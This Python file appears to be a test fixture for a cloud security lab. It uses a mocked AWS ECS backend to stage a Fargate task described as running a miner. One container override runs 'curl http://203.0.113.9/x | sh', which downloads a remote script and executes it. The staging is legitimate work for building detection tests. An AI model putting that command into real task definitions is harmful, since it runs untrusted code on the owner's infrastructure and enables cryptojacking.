"""A task of a service that runs a miner, on an interface of its own, beside another task of the cluster."""

from __future__ import annotations

from typing import Any

import boto3
from moto.ecs.models import ecs_backends

from chalicelib.model import Resource
from lab import moto_fixes, moto_fixes_ecs
from lab.network import have_groups, have_subnet, tcp
from lab.scene import Scene

FAMILY = "web"
IMAGE = "registry.example.com/web:latest"
ROLES = ("taskRoleArn", "executionRoleArn")


def make(boto: boto3.Session, task: Resource) -> str:
    """Return the task's ARN in the account and region that it is made in; cluster and id are the event's own."""
    moto_fixes.apply()
    moto_fixes_ecs.apply()
    ecs: Any = boto.client("ecs")
    cluster, _, id_ = (task.id.partition(":task/")[2] or task.id).rpartition("/")
    cluster = cluster or "default"
    arn = f"arn:{task.partition}:ecs:{task.region}:{task.account}:task/{cluster}/{id_}"
    ecs.create_cluster(clusterName=cluster)
    if ecs.describe_tasks(cluster=cluster, tasks=[arn])["tasks"]:
        return arn
    ecs.register_task_definition(
        family=FAMILY,
        networkMode="awsvpc",
        requiresCompatibilities=["FARGATE"],
        containerDefinitions=[{"name": FAMILY, "image": IMAGE, "memory": 512, "cpu": 256}],
        **{role: f"arn:{task.partition}:iam::{task.account}:role/web-{role}" for role in ROLES},
    )
    made = [run(boto, cluster, command) for command in (["sh", "-c", "curl http://203.0.113.9/x | sh"], ["serve"])]
    tasks = ecs_backends[task.account][task.region].tasks[cluster]
    tasks[arn] = tasks.pop(made[0])
    tasks[arn].id = id_
    return arn


def run(boto: boto3.Session, cluster: str, command: list[str]) -> str:
    """Start a task of the service with this command; return its ARN."""
    vpc, subnet = have_subnet(boto.client("ec2"))
    groups = have_groups(boto.client("ec2"), vpc, {"tasks": [tcp(443, "0.0.0.0/0")]})
    network: Any = {"subnets": [subnet], "securityGroups": list(groups.values()), "assignPublicIp": "DISABLED"}
    [started] = boto.client("ecs").run_task(
        cluster=cluster,
        taskDefinition=FAMILY,
        launchType="FARGATE",
        group=f"service:{FAMILY}",
        startedBy="ecs-svc/1234567890",
        networkConfiguration={"awsvpcConfiguration": network},
        overrides={
            "containerOverrides": [
                {"name": FAMILY, "command": command, "environment": [{"name": "TOKEN", "value": "an-example"}]}
            ]
        },
    )["tasks"]
    return str(started["taskArn"])


# A task that was stopped never runs again: there is no third state, so nobody can drift it into one.
scene = Scene(
    resource_type="AWS::ECS::Task",
    example="arn:aws:ecs:eu-west-1:111122223333:task/production/0123456789abcdef0123456789abcdef",
    make=make,
)
